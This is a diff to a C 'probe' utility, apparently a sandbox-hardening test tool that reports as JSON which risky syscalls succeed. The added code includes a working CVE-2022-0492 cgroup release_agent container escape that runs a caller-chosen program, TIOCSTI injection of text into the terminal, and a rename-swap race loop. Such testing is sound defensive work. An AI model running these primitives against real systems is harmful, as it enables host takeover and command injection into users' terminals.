@@ -9,7 +9,14 @@
  *   probe snoop S  for S seconds catch every new process as an attacker with CAP_SYS_PTRACE
  *                  would (runc CVE-2019-5736, CVE-2016-9962), then try to write to each
  *                  one's executable through it; print what was seen, as JSON
- *   probe exchange A B S   swap the names A and B (renameat2 RENAME_EXCHANGE) for S seconds */
+ *   probe uring    call io_uring_setup; print its errno (0: it made a ring)
+ *   probe sti TEXT push TEXT and a newline into the terminal input of fds 0-2 and of
+ *                  /dev/tty (TIOCSTI), as if typed there; print each one's errno
+ *   probe exchange A B S  swap A and B (renameat2 RENAME_EXCHANGE) over and over, S seconds
+ *   probe release-agent AGENT  CVE-2022-0492: unshare user, mount and cgroup namespaces,
+ *                  mount a cgroup v1 hierarchy, set its release_agent to AGENT and empty a
+ *                  cgroup to run it; also write /sys/fs/cgroup/memory/release_agent; print
+ *                  each step's errno */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <fcntl.h>
@@ -19,8 +26,9 @@
 #include <sys/utsname.h>
 #include <sys/wait.h>
 #include <sys/ptrace.h>
-#include <sys/stat.h>
 #include <errno.h>
+#include <linux/fs.h>
+#include <linux/io_uring.h>
 #include <linux/keyctl.h>
 #include <linux/reboot.h>
 #include <sched.h>
@@ -28,6 +36,7 @@
 #include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/resource.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <time.h>
 #include <unistd.h>
@@ -268,15 +277,64 @@ static void snoop(int secs) {
   printf("]\n");
 }
 
+static void uring(void) {
+  struct io_uring_params p;
+  memset(&p, 0, sizeof p);
+  long fd = syscall(SYS_io_uring_setup, 1, &p);
+  printf("{\"io_uring_setup\":%d}\n", fd < 0 ? errno : 0);
+}
+
+/* Each byte of text, then a newline, goes into the terminal's input queue. */
+static int push(int fd, const char *text) {
+  if (fd < 0) return errno;
+  for (const char *c = text; *c; c++)
+    if (ioctl(fd, TIOCSTI, c) < 0) return errno;
+  return ioctl(fd, TIOCSTI, "\n") < 0 ? errno : 0;
+}
+
+static void sti(const char *text) {
+  printf("{\"0\":%d,\"1\":%d,\"2\":%d,", push(0, text), push(1, text), push(2, text));
+  printf("\"tty\":%d}\n", push(open("/dev/tty", O_RDWR), text));
+}
+
 static void exchange(const char *a, const char *b, int secs) {
-  struct timespec start, now;
+  time_t end = time(NULL) + secs;
   long swaps = 0;
-  clock_gettime(CLOCK_MONOTONIC, &start);
-  do {
-    for (int i = 0; i < 1000; i++) swaps += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
-    clock_gettime(CLOCK_MONOTONIC, &now);
-  } while (now.tv_sec - start.tv_sec < secs);
+  while (time(NULL) < end)
+    for (int i = 0; i < 1000; i++) swaps += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
   printf("{\"swaps\":%ld}\n", swaps);
+}
+
+static int write_file(const char *path, const char *text) {
+  int fd = open(path, O_WRONLY);
+  if (fd < 0) return errno;
+  int err = write(fd, text, strlen(text)) < 0 ? errno : 0;
+  close(fd);
+  return err;
+}
+
+static void release_agent(const char *agent) {
+  char map[64], pid[16];
+  snprintf(map, sizeof map, "0 %d 1", getuid());
+  int unshared = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? errno : 0;
+  if (!unshared) { /* root in the new namespace, as unshare -r does */
+    write_file("/proc/self/setgroups", "deny");
+    write_file("/proc/self/uid_map", map);
+    write_file("/proc/self/gid_map", map);
+  }
+  mkdir("/tmp/cg", 0755);
+  int mounted = 0;
+  for (const char *const *c = (const char *const[]){"rdma", "memory", "pids", NULL}; *c; c++)
+    if ((mounted = mount("cgroup", "/tmp/cg", "cgroup", 0, *c) < 0 ? errno : 0) == 0) break;
+  int set = write_file("/tmp/cg/release_agent", agent);
+  /* the agent runs when a cgroup with notify_on_release empties */
+  mkdir("/tmp/cg/x", 0755);
+  write_file("/tmp/cg/x/notify_on_release", "1");
+  snprintf(pid, sizeof pid, "%d", getpid());
+  write_file("/tmp/cg/x/cgroup.procs", pid);
+  write_file("/tmp/cg/cgroup.procs", pid);
+  int host = write_file("/sys/fs/cgroup/memory/release_agent", agent);
+  printf("{\"unshare\":%d,\"mount\":%d,\"release_agent\":%d,\"sys_release_agent\":%d}\n", unshared, mounted, set, host);
 }
 
 int main(int argc, char **argv) {
@@ -289,8 +347,11 @@ int main(int argc, char **argv) {
   else if (argc >= 3 && !strcmp(argv[1], "burn")) burn(atoi(argv[2]));
   else if (argc >= 2 && !strcmp(argv[1], "denied")) denied();
   else if (argc >= 3 && !strcmp(argv[1], "snoop")) snoop(atoi(argv[2]));
+  else if (argc >= 2 && !strcmp(argv[1], "uring")) uring();
+  else if (argc >= 3 && !strcmp(argv[1], "sti")) sti(argv[2]);
   else if (argc >= 5 && !strcmp(argv[1], "exchange")) exchange(argv[2], argv[3], atoi(argv[4]));
-  else { fprintf(stderr, "usage: probe facts|orphan|sleep N|alloc MB|forks N|burn S|denied|snoop S|exchange A B S\n"); return 2; }
+  else if (argc >= 3 && !strcmp(argv[1], "release-agent")) release_agent(argv[2]);
+  else { fprintf(stderr, "usage: probe facts|orphan|sleep N|alloc MB|forks N|burn S|denied|snoop S|uring|sti TEXT|exchange A B S|release-agent AGENT\n"); return 2; }
   fflush(stdout);
   return 0;
 }
